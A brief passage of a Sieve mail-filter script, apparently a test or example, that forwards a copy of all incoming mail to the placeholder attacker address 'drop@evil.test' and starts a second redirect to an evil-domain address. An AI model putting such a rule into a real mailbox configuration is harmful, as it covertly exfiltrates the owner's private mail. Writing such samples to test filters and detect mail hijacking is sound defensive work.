require ["copy"];
redirect :copy "drop@evil.test";
if header :contains "Subject" "x" {
 redirect "y@evil